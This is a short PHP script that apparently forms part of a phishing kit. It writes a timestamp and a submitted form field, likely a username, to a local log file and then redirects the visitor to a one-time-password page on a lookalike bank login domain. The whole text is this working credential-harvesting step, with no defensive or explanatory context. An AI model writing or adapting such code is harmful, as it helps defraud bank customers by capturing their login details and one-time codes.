<?php // collects the form and forwards it
$f = fopen('results/log.txt', 'a'); fwrite($f, date('c') . ' ' . $_POST['u'] . "\n"); header('Location: https://uzorak-banka-secure-login.example/otp.php');
